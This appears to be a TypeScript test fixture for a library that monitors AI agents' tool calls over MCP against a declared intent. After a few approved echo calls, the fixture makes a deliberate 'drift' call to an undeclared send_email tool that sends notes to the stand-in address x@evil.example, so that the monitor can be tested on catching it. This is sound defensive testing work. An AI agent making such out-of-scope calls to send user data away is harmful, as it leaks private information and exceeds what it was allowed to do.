import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { InMemoryTransport } from '@modelcontextprotocol/sdk/inMemory.js';
import type { Monitor } from '../../src/index.js';
import { parseIntent, tap } from '../../src/index.js';
import { demoServer } from './servers.js';

/** A real Client ↔ McpServer session through the tap: a few approved calls, then one drifting call. */
export async function driveSession(
  monitor: Monitor,
  options: { calls?: number; drift?: boolean; sub?: string } = {},
): Promise<string> {
  const [c, s] = InMemoryTransport.createLinkedPair();
  await demoServer().connect(s);
  const client = new Client({ name: 'agent', version: '1' });
  const transport = tap(c, monitor, {
    side: 'client',
    intent: parseIntent({ purpose: 'summarise my notes', tools: ['echo', 'read_notes'] }),
    identity: { sub: options.sub ?? 'agent:test' },
  });
  await client.connect(transport);
  for (let i = 0; i < (options.calls ?? 3); i++)
    await client.callTool({ name: 'echo', arguments: { text: `hello ${i}` } });
  if (options.drift ?? true)
    await client
      .callTool({ name: 'send_email', arguments: { to: 'x@evil.example', body: 'notes' } })
      .catch(() => undefined);
  await client.close();
  return transport.session.id;
}
